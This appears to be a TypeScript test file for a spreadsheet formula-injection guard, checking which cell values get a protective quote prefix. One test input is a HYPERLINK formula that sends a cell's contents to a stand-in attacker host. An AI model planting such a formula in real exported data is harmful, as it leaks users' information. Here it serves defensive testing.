import { spreadsheetSafe } from '../../../src/schema-runtime/spreadsheet-safe';

describe('spreadsheetSafe', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&C3,"Open request")'],
    ['=2+3'],
    ['+385 1 234 5678'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\tindented'],
    ['\rreturn first'],
  ])('puts a quote before %j, which a spreadsheet would read as a formula', (text) => {
    expect(spreadsheetSafe(text)).toBe(`'${text}`);
  });

  it.each([['Računalni projekt'], ['NR-2026-01-001'], [''], ["'already quoted"], ['a=b'], [' =2+3'], ['12.5']])(
    'leaves %j as it is',
    (text) => {
      expect(spreadsheetSafe(text)).toBe(text);
    },
  );
});
